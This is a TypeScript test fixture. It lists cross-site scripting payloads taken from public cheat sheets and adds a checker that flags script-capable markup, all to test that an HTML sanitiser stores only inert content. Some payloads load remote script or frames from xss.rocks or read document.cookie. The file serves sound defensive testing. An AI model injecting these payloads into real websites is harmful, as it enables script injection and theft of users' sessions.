// XSS vectors from the OWASP XSS Filter Evasion Cheat Sheet and PayloadsAllTheThings (XSS Injection),
// shared by every test that proves a write path stores only sanitised HTML (the sanitiser's own test,
// the JSON import, the legacy import).
export const xssVectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><button formaction=javascript:alert(1)>X</button></form>',
  '<base href="javascript:alert(1)//">',
  '<p style="x:expression(alert(1))">styled</p>',
  '<template><script>alert(1)</script></template>',
  '"><img src=x onerror=alert(1)>',
];

// Written out again here, not imported from the sanitiser: the check must not trust what it checks.
const inertElements = new Set(['p', 'br', 'h2', 'h3', 'h4', 'strong', 'b', 'em', 'i', 'u', 's', 'sub', 'sup', 'a', 'ul', 'ol', 'li', 'blockquote', 'figure', 'figcaption', 'img', 'hr', 'code', 'pre']);

/**
 * What in body HTML could run script, load a frame or style the page: empty when it is inert. Every
 * tag is read (a literal "<" followed by a letter opens one; escaped text cannot): its element must be
 * in the allowlist, and no attribute may be an event handler, a style or a script URL.
 */
export function liveMarkup(html: string): string[] {
  const found: string[] = [];
  for (const [tag, name, attributes] of html.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>?/g)) {
    if (!inertElements.has(name!.toLowerCase())) found.push(`element: ${tag.slice(0, 60)}`);
    if (/(^|[\s/"'])on[a-z]+\s*=/i.test(attributes!)) found.push(`event handler: ${tag.slice(0, 60)}`);
    if (/(^|[\s/"'])style\s*=/i.test(attributes!)) found.push(`style: ${tag.slice(0, 60)}`);
    if (/(href|src|action)\s*=\s*["'`]?\s*(javascript|data|vbscript):/i.test(attributes!)) found.push(`script URL: ${tag.slice(0, 60)}`);
  }
  return found;
}
